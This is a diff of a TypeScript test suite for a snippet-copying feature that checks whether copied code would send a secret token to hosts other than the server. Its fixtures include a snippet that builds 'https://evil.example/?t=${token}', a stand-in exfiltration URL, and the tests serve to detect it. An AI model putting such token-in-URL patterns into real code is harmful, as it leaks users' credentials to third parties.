@@ -47,7 +47,8 @@ describe('copying', () => {
       expect(await page.model.copy()).toEqual({
         kind: 'copied',
         outcome: 'copied',
-        holdsToken: false
+        holdsToken: false,
+        otherHosts: []
       });
       expect(copied.mock.calls).toEqual([['curl: none']]);
     });
@@ -57,7 +58,8 @@ describe('copying', () => {
       expect(await page.model.copy()).toEqual({
         kind: 'copied',
         outcome: 'refused',
-        holdsToken: false
+        holdsToken: false,
+        otherHosts: []
       });
     });
 
@@ -122,7 +124,8 @@ describe('copying', () => {
       'refused'
     ])('says how that ended: %s', async outcome => {
       page.panel.copySecret.mockResolvedValue(outcome);
-      const ended = { kind: 'copied', outcome, holdsToken: true };
+      const otherHosts: string[] = [];
+      const ended = { kind: 'copied', outcome, holdsToken: true, otherHosts };
       expect(await page.model.copy()).toEqual(ended);
       expect(page.model.outcome).toEqual(ended);
     });
@@ -143,6 +146,39 @@ describe('copying', () => {
       expect(JSON.stringify(page.model.outcome)).not.toContain(SECRET);
       expect(JSON.stringify(page.model.shownCode)).not.toContain(SECRET);
     });
+
+    it('names other hosts than the server’s only where the code has the token', async () => {
+      page.registry.add(
+        snippetOf('far', {
+          render: ({ token }) => `https://evil.example/?t=${token}`
+        })
+      );
+      const order = { language: 'far' };
+      expect(await page.model.copy(order)).toMatchObject({
+        holdsToken: true,
+        otherHosts: ['evil.example']
+      });
+      page.model.includeToken = false;
+      expect(await page.model.copy(order)).toMatchObject({
+        holdsToken: false,
+        otherHosts: []
+      });
+    });
+
+    it.each(['https://%s.evil.example/', 'https://%s'])(
+      'names no host that is the token: %s',
+      async url => {
+        const secret = '0123456789abcdef';
+        page.token.read = () => secret;
+        page.registry.add(
+          snippetOf('far', {
+            render: ({ token }) => url.replace('%s', token ?? '')
+          })
+        );
+        const outcome = await page.model.copy({ language: 'far' });
+        expect(JSON.stringify(outcome)).not.toContain(secret);
+      }
+    );
 
     it('copies nothing of a snippet that fails, and hides the token', async () => {
       page.registry.add(failing('broken'));
